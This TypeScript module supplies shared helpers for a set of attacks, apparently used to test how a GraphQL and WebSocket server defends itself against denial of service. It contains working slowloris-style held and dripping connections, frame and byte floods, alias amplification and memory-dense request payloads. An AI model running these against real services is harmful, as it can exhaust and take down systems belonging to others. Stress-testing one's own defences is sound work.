// What the attacks of `attacker.ts` have in common: loops, connections and requests to the server of the arguments.
import { once } from 'node:events';
import { Agent, request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import type { Socket } from 'node:net';
import type { Duplex } from 'node:stream';
import process from 'node:process';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';

export const [name = '', base = '', ...tokens] = process.argv.slice(2);
export const { hostname, port, host } = new URL(base === '' ? 'http://127.0.0.1' : base);
/** Attacks by name. Each runs until its process is killed. */
export type Attacks = Readonly<Record<string, () => void | Promise<void>>>;

export const text = (length: number): string => 'x'.repeat(length);
export const range = (length: number): number[] => Array.from({ length }, (_, index) => index);

/** Runs a task in parallel loops. Failed attempts are what a defence intends: they only slow their loop down. */
export function loop(concurrency: number, task: (index: number, round: number) => Promise<unknown>): void {
  for (const index of range(concurrency))
    void (async () => {
      for (let round = 0; ; round += 1)
        try {
          await task(index, round);
        } catch {
          await sleep(20);
        }
    })();
}

/** Opens a TCP connection, writes once, and never reads. */
export async function openUnread(head: string): Promise<Socket> {
  const socket = connect({ host: hostname, port: Number(port) });
  socket.on('error', () => undefined);
  await once(socket, 'connect');
  socket.pause();
  socket.write(head);
  return socket;
}

/** Keeps connections open, replaced when the server closes them. */
export const hold = (
  count: number,
  open: (index: number, round: number) => Promise<Socket | WebSocket>,
): void =>
  loop(count, async (index, round) => {
    const connection = await open(index, round);
    await once(connection, 'close');
    await sleep(50);
  });

export const agent = new Agent({ keepAlive: true, maxSockets: Infinity });

export async function post(
  body: string,
  headers: Readonly<Record<string, string>> = {},
  path = '/graphql',
  localAddress?: string,
): Promise<string> {
  const request = httpRequest(`${base}${path}`, {
    method: 'POST',
    localAddress,
    agent,
    headers: { 'content-type': 'application/json', ...headers },
  });
  request.end(body);
  const [response] = (await once(request, 'response')) as [AsyncIterable<Buffer>];
  let length = 0;
  let start = '';
  for await (const chunk of response) {
    length += chunk.length;
    if (start.length < 200) start += chunk.toString();
  }
  return `${length} ${start}`;
}

export const bearer = (index: number): Record<string, string> => ({
  authorization: `Bearer ${tokens[index % tokens.length] ?? ''}`,
});
export const graphql = (query: string, variables: object = {}): string =>
  JSON.stringify({ query, variables });

export async function openWebSocket(payload: object = {}): Promise<WebSocket> {
  const socket = new WebSocket(`ws://${host}/graphql`, 'graphql-transport-ws');
  socket.on('error', () => undefined);
  await once(socket, 'open');
  socket.send(JSON.stringify({ type: 'connection_init', payload }));
  await once(socket, 'message');
  return socket;
}

export async function openLegacy(): Promise<WebSocket> {
  const socket = new WebSocket(`ws://${host}/socket.io/?EIO=4&transport=websocket`);
  socket.on('error', () => undefined);
  await once(socket, 'open');
  socket.send('40');
  return socket;
}

export const subscribe = (id: number, query: string, variables: object = {}): string =>
  JSON.stringify({ id: String(id), type: 'subscribe', payload: { query, variables } });

/** Writes frames as fast as the connection takes them, without reading. */
export function flood(socket: WebSocket, frame: (index: number) => string): void {
  socket.pause();
  let sent = 0;
  const write = (): void => {
    while (socket.readyState === WebSocket.OPEN && socket.bufferedAmount < 1_000_000) {
      socket.send(frame(sent));
      sent += 1;
    }
    if (socket.readyState === WebSocket.OPEN) setTimeout(write, 5);
  };
  write();
}

export const LOGIN =
  'mutation($email: String!, $password: String!) { login(email: $email, password: $password) { token } }';
const SIGN_UP = 'mutation($input: CreateAccountInput!) { createAccount(input: $input) { token } }';
export const aliases = (count: number, field: string): string =>
  `{ ${range(count)
    .map((index) => `a${index}: ${field}`)
    .join(' ')} }`;

export const signUp = (email: string): string =>
  graphql(SIGN_UP, { input: { email, password: 'a long password', firstName: 'A', lastName: 'B' } });

/** A request whose variables take many times the memory of their text. */
export const denseRequest = (query: string, values: number): string =>
  `{"query":${JSON.stringify(query)},"variables":{"list":[${'{},'.repeat(values)}{}]}}`;

/** Runs an operation, and returns its data. */
export async function run<Data>(index: number, query: string, variables: object = {}): Promise<Data> {
  const response = await fetch(`${base}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...bearer(index) },
    body: graphql(query, variables),
  });
  return ((await response.json()) as { readonly data: Data }).data;
}

/** Creates a conversation of an account, and returns its id. */
export async function createConversation(index: number): Promise<string> {
  const { circle } = await run<{ circle: { id: string } }>(
    index,
    'mutation { circle: createCircle(name: "c") { id } }',
  );
  const { conversation } = await run<{ conversation: { id: string } }>(
    index,
    'mutation($id: ID!) { conversation: createConversation(circleId: $id, name: "c", emails: []) { id } }',
    { id: circle.id },
  );
  return conversation.id;
}

/** Opens a polling session of Engine.IO, and returns its path. */
export async function openPolling(): Promise<string> {
  const path = '/socket.io/?EIO=4&transport=polling';
  const handshake = await (await fetch(`${base}${path}`)).text();
  return `${path}&sid=${/"sid":"([^"]+)"/.exec(handshake)?.[1] ?? ''}`;
}

/** Writes text to a TCP connection as fast as it takes it. */
export function floodBytes(socket: Duplex, chunk: string): void {
  const write = (): void => {
    while (socket.writable && socket.writableLength < 300_000) socket.write(chunk, 'latin1');
    if (socket.writable) setTimeout(write, 5);
  };
  write();
}

/** Encodes a WebSocket frame of a client, with a mask of zeros. */
export const clientFrame = (head: number, payload: string): string =>
  String.fromCharCode(head, 0x80 | payload.length, 0, 0, 0, 0) + payload;

/** Opens a GraphQL WebSocket, and writes bytes below it as fast as it takes them. */
export async function openFlooded(bytes: string): Promise<WebSocket> {
  const socket = await openWebSocket();
  socket.pause();
  floodBytes(Reflect.get(socket, '_socket') as Duplex, bytes);
  return socket;
}

/** Writes a piece every second. */
export function drip(socket: Socket, piece: string): Socket {
  const timer = setInterval(() => socket.write(piece), 1_000);
  socket.once('close', () => clearInterval(timer));
  return socket;
}
